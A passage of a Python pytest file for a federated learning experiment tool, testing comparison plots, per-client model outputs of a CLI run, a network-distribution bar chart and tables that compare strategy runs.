    runs = [(str(i), [[{"round": 1, "accuracy": 0.1 * i}, {"round": 2, "accuracy": 0.2}]]) for i in range(7)]
    lines = comparison_figure(runs, Headline(), "t").axes[0].lines[:7]
    assert len({(str(line.get_linestyle()), line.get_marker()) for line in lines}) == 7
    assert len({line.get_color() for line in lines}) == 7


def test_an_empty_comparison_is_a_picture(tmp_path):
    comparison_figure([("local", [[]]), ("failed", [])], Headline(), "t").savefig(tmp_path / "c.png")
    assert is_picture(tmp_path / "c.png")


def test_the_picture_of_networks_counts_the_clients_that_have_each(tmp_path):
    done = CliRunner().invoke(
        cli.app,
        [
            "run",
            "--strategy=perfed-ckt",
            "--engine=inline",
            "--partition=dirichlet",
            "--clients=6",
            "--rounds=1",
            "--set=model=digits-cnn,ckt-cnn",
            "--set=local-steps=1",
            "--set=public-size=8",
            f"--output-dir={tmp_path}",
        ],
    )
    assert done.exit_code == 0, done.output
    (folder,) = tmp_path.iterdir()
    found = {"digits-cnn": [], "ckt-cnn": []}
    config = json.loads((folder / "config.json").read_text())["settings"]
    federation = load_federation(config)
    for client, size in enumerate(federation.train_sizes.tolist()):
        path = folder / "models" / f"client-{client}.safetensors"
        if path.exists():
            with safe_open(path, "numpy") as file:
                found[file.metadata()["model"]].append(size)
        else:
            assert size == 0
    assert sum(map(len, found.values())) > 3 and networks_of(config, federation) == found
    assert is_picture(folder / "networks.png", (600, 200))
    assert run_content(folder)["networks"].startswith("data:image/png")
    axes = pictures.networks_figure({"small": [10, 20], "none": [], "large": [40, 50, 60]}, "t").axes[0]
    assert [bar.get_width() for bar in axes.patches] == [2, 0, 3]
    assert [text.get_text() for text in axes.texts] == [
        "2 (40%), 15 samples on average",
        "0 (0%)",
        "3 (60%), 50 samples on average",
    ]


# --- Runs side by side ----------------------------------------------------------------------------------


def summary_of(strategy, accuracy, best, decile):
    return {
        "strategy": strategy,
        "accuracy": accuracy,
        "accuracy-best": best,
        "accuracy-p10": decile,
        "seconds": 12.34,
        "bytes-down": 1_500_000,
        "bytes-up": 999_000,
    }


def test_the_comparison_table_of_runs():
    rows = [summary_of("heurfedamp", 0.831, 0.84, 0.6), summary_of("local", None, None, None)]
    text = io.StringIO()
    print_table(*comparison_table(rows), file=text, ruled=False)
    assert [line.split() for line in text.getvalue().splitlines()] == [
        ["strategy", "mean", "%", "best", "%", "bottom", "decile", "%", "seconds", "MB", "down", "MB", "up"],
        ["heurfedamp", "83.1", "84.0", "60.0", "12.3", "1.5", "1.0"],
        ["local", "-", "-", "-", "12.3", "1.5", "1.0"],
    ]


def test_finished_runs_are_compared_in_a_table_and_a_picture(tmp_path, federation):
    folders = []
    for name, rounds in (("heurfedamp", TWO_ROUNDS), ("local", TWO_ROUNDS[:1])):
        folder = RunFolder(settings(tmp_path / "results", strategy=name))
        folder.record_round(run_of(rounds))
        folders.append(folder.path)
        if name == "local":
            with pytest.raises(ValueError, match="holds no summary.json"):
                compare_runs(folders, tmp_path / "comparison.png")
        folder.finish(run_of(rounds), federation)
    text = io.StringIO()
    compare_runs(folders, tmp_path / "comparison.png", text)
    assert "\x1b" not in text.getvalue() and text.getvalue().isascii()
    lines = [line.split()[:4] for line in text.getvalue().splitlines()[1:]]
    assert lines == [["heurfedamp", "70.0", "70.0", "54.0"], ["local", "60.0", "60.0", "52.0"]]
    assert is_picture(tmp_path / "comparison.png")
